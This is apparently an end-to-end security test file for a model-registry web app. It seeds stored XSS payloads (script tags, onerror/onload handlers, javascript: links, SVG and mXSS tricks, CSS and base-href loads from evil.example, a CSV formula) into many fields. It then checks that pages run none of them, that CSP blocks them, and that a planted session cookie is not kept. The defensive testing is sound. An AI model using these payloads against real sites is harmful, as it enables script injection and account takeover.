/** What an attacker writes into the registry, and what browsers then make of it: text, and nothing that runs. */
import { mkdtemp, mkdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test as unwatched, type Page } from "@playwright/test";
import { alive, sdkOf, sessionOf, shared, signInAs } from "./demo-registry.ts";
import { fresh, metadata, request, stageWith } from "./promotion-scene.ts";
import { expect, test } from "./test.ts";

const run = "globalThis.attacked=1";
const image = `<img src=x onerror=${run}>`;
const script = `<script>${run}</script>`;
const breakOut = `"'><svg onload=${run}>`;
const all = `${image}${script}${breakOut} [a link](javascript:${run}) ![a picture](x" onerror="${run})`;
/** Everything that Markdown and HTML have been broken with. */
const card = `# ${image}

${script}

<a href="javascript:${run}">link</a> <a href=" java&#10;script:${run}">link</a> <iframe srcdoc="${script.replaceAll('"', "")}"></iframe>
<form action="javascript:${run}"><button formaction="javascript:${run}">press</button></form> <object data="javascript:${run}"></object>
<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/x) }</style> <base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example"> <math><mtext></p><style><img src=x onerror=${run}></style></mtext></math>
<div onclick="${run}" style="position:fixed;inset:0">over everything</div> <details open ontoggle=${run}>x</details>

[javascript](javascript:${run}) [data](data:text/html,${encodeURIComponent(script)}) [vb](vbscript:x) <javascript:${run}> ![x](javascript:${run})

| ${image} | ${script} |
| --- | --- |
| ${breakOut} | \`${image}\` |
`;

async function expectQuiet(page: Page, address: string): Promise<void> {
  await page.goto(`${shared().url}${address}`);
  await page.waitForLoadState("load");
  // Scripts that were written in have had the time to run.
  await alive(page);
  await expect(page.locator("main, [role=main]").first()).toBeVisible();
  expect(await page.evaluate(() => (globalThis as { attacked?: number }).attacked), address).toBeUndefined();
  expect(await page.locator("a[href^='javascript' i], a[href^='data:' i], a[href^='vbscript' i], iframe, object, base, main form[action^='javascript' i]").count(), address).toBe(0);
  expect(await page.locator("[onerror], [onload], [onclick], [ontoggle]").count(), address).toBe(0);
  expect(page.url(), address).toContain(shared().url);
}

test("nothing that was written into names, descriptions, cards, files, tags or comments runs on any page", async ({ page }) => {
  test.setTimeout(240_000);
  const { url, users } = shared();
  const name = fresh("attacked");
  const admin = await sessionOf("admin");
  await admin.call("identity.createUser", { name: `Eve ${image}`, email: `eve-${name}@demo.local`, password: "three words apart" });
  await admin.call("teams.create", { slug: name, name: all.slice(0, 90) });
  await admin.call("teams.setMember", { team: name, email: users.author.email, role: "maintainer" });
  await admin.call("teams.setMember", { team: name, email: `eve-${name}@demo.local`, role: "reviewer" });
  await stageWith(name, { approvals: 1 });
  await sdkOf("admin").api.stages.change.mutate({ name, description: all.slice(0, 200), color: "teal" });

  const folder = await mkdtemp(join(tmpdir(), "countersign-attack-"));
  const evil = `${image.replaceAll("/", "")}.txt`;
  await writeFile(join(folder, "README.md"), card);
  await writeFile(join(folder, evil), all);
  await writeFile(join(folder, "page.html"), `<!doctype html>${script}${image}`);
  await writeFile(join(folder, "picture.svg"), `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}">${script}<foreignObject>${image}</foreignObject></svg>`);
  await writeFile(join(folder, "table.csv"), `${image},${script}\n"${breakOut.replaceAll('"', '""')}",=cmd()\n`);
  await mkdir(join(folder, breakOut.replaceAll("/", "")));
  await writeFile(join(folder, breakOut.replaceAll("/", ""), "a.json"), JSON.stringify({ [image]: script }));
  const model = `${name}/evil`;
  const author = sdkOf("author");
  await author.api.models.create.mutate({ model, description: all });
  await author.saveModel({
    model,
    files: folder,
    metadata: { ...metadata, description: all, framework: image.slice(0, 40), parameters: { [image]: script }, datasets: [{ name: image, role: "training" }] },
  });
  await author.cards.revise(`${model}@1`, { body: `---\nlicense: ${JSON.stringify(image)}\n${JSON.stringify(script)}: ${JSON.stringify(breakOut)}\n---\n${card}\n{{parameters}} {{description}} {{datasets}}\n`, note: all.slice(0, 500) });
  await rm(folder, { recursive: true });
  const id = await request(`${model}@1`, name, `${all}\n\n${card}`);
  await author.api.reviews.comment.mutate({ id, about: image, body: card });

  await signInAs(page, "admin");
  const at = `/models/${model}`;
  const files = [evil, "page.html", "picture.svg", "table.csv", "README.md"].map((file) => `${at}/versions/1/files/${encodeURIComponent(file)}`);
  for (const address of [
    "/models", `/models?q=${encodeURIComponent(all)}`, at, `${at}/versions`, `${at}/versions/1`, `${at}/versions/1/card`, `${at}/versions/1/card?revision=1`, `${at}/versions/1/card/changes?from=1&to=2`, `${at}/versions/1/card/edit`, `${at}/versions/1/files`, `${at}/versions/1/use`, ...files,
    `${at}/stages`, `${at}/activity`, `/promotions/${id}`, "/promotions", "/reviews", "/teams", `/teams/${name}`, "/admin/users", "/admin/stages",
    `/sign-in?callbackUrl=${encodeURIComponent(`javascript:${run}`)}`, `/models/${encodeURIComponent(image)}/x`,
  ]) {
    await expectQuiet(page, address);
  }
  await page.goto(`${url}${at}/versions/1/card`);
  await expect(page.locator(".prose").first()).toContainText("javascript data vb");
  expect(await page.locator(".prose [style], .prose style").count()).toBe(0);
});

test("a stored page or picture that is opened by itself runs nothing", async ({ page }) => {
  const { url } = shared();
  const name = fresh("opened");
  const folder = await mkdtemp(join(tmpdir(), "countersign-attack-"));
  await writeFile(join(folder, "picture.svg"), `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${run}"><script>${run};document.title="attacked"</script></svg>`);
  await writeFile(join(folder, "page.html"), `<!doctype html><title>x</title><script>document.title="attacked"</script>`);
  await sdkOf("author").saveModel({ model: `quality/${name}`, files: folder, metadata });
  await rm(folder, { recursive: true });
  await signInAs(page, "viewer");
  for (const file of ["picture.svg", "page.html"]) {
    const answer = await page.request.get(`${url}/files/quality/${name}/1/${file}?view`);
    expect(answer.headers()["content-security-policy"]).toContain("sandbox; default-src 'none'");
    expect(answer.headers()["content-type"]).not.toContain("text/html");
    const saved = await page.request.get(`${url}/files/quality/${name}/1/${file}`);
    expect(saved.headers()["content-disposition"]).toMatch(/^attachment/);
  }
});

/** What somebody would write who found a place where the page takes it as it is. */
const injected = [
  "<script>globalThis.attacked=1</script>",
  "<script src='https://evil.example/x.js'></script>",
  "<img src=x onerror='globalThis.attacked=1'>",
  "<img src='https://evil.example/x.png'>",
  "<iframe src='https://evil.example/'></iframe>",
  "<object data='https://evil.example/x'></object>",
  "<base href='https://evil.example/'>",
  "<style>body { display: none }</style>",
].join("");

// What follows does what the policy forbids, so that it is no failure here.
unwatched("what would run in spite of all that is stopped by the Content Security Policy", async ({ page }) => {
  const { url } = shared();
  const answer = await page.goto(`${url}/sign-in`);
  const policy = answer?.headers()["content-security-policy"] ?? "";
  expect(policy).toMatch(/script-src 'self' 'nonce-[\w+/]{22}==' 'strict-dynamic';/);
  expect(policy).not.toMatch(/script-src[^;]*unsafe/);
  const again = await page.request.get(`${url}/sign-in`);
  expect(again.headers()["content-security-policy"]).not.toBe(policy);
  expect((await again.text()).match(/<script(?![^>]*nonce=)[^>]*>/g)).toBeNull();

  // The server's own page with its own headers, and with that in it.
  await page.route(`${url}/sign-in?injected`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace(/<body[^>]*>/, (body) => body + injected) });
  });
  await page.addInitScript(() => {
    const directives: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => directives.push(effectiveDirective));
    Object.assign(globalThis, { directives });
  });
  await page.goto(`${url}/sign-in?injected`);
  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
  const found = await page.evaluate(() => {
    const { directives, attacked } = globalThis as { directives?: string[]; attacked?: number };
    return { directives, attacked };
  });
  expect(found.attacked).toBeUndefined();
  for (const directive of ["base-uri", "frame-src", "img-src", "object-src", "script-src-attr", "script-src-elem", "style-src-elem"]) expect(found.directives).toContain(directive);
});

test("a session that was planted in a browser before signing in is not the one that comes of it", async ({ page, context }) => {
  const { url, users } = shared();
  const planted = "cGxhbnRlZCBieSBzb21lYm9keSBlbHNlIGJlZm9yZQ";
  await context.addCookies([{ name: "next-auth.session-token", value: planted, url, httpOnly: true, sameSite: "Lax" }]);
  await page.goto(`${url}/sign-in`);
  await page.getByLabel("E-mail").fill(users.viewer.email);
  await page.getByLabel("Password").fill(users.viewer.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page).toHaveURL(/\/models$/);
  const cookie = (await context.cookies(url)).find(({ name }) => name === "next-auth.session-token");
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Lax" });
  expect(cookie?.value).not.toBe(planted);
  const theirs = await fetch(`${url}/api/trpc/tokens.list`, { headers: { cookie: `next-auth.session-token=${planted}` } });
  expect(theirs.status).toBe(401);
});
